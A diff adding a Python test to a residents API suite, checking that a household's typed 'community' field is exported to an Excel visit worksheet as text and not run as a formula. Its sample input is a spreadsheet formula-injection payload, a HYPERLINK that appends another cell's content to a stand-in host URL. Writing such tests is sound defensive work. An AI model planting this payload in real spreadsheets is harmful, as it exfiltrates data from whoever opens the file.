@@ -344,3 +344,21 @@ def test_the_worksheet_shows_an_answer_kept_under_an_older_version_whatever_its_
     assert _previous(multi, {"rigid_expenses": "medical"}) == "医疗"
     assert _previous(multi, {"rigid_expenses": [{"x": 1}]}) == "{'x': 1}"
     assert _previous(multi, {"rigid_expenses": []}) == "无"
+
+
+async def test_visit_worksheet_keeps_what_households_typed_as_text(client):
+    """The community is the household's own words; one beginning with '=' must print as text, not
+    run as a formula when the station opens the sheet (formula injection)."""
+    import io
+
+    from openpyxl import load_workbook
+
+    station = await make_station()
+    worker = await make_worker(client, station)
+    community = '=HYPERLINK("http://example.invalid/?"&B3,"点击查看")'
+    _, home = await make_resident(client, station, community=community)
+    r = await client.get(f"/api/v1/residents/{home['id']}/visit-worksheet", headers=worker.headers)
+    assert r.status_code == 200, r.text
+    sheet = load_workbook(io.BytesIO(r.content)).active
+    cell = next(row[1] for row in sheet.iter_rows() if row[0].value == "社区 / 住址")
+    assert cell.value == community and cell.data_type == "s"
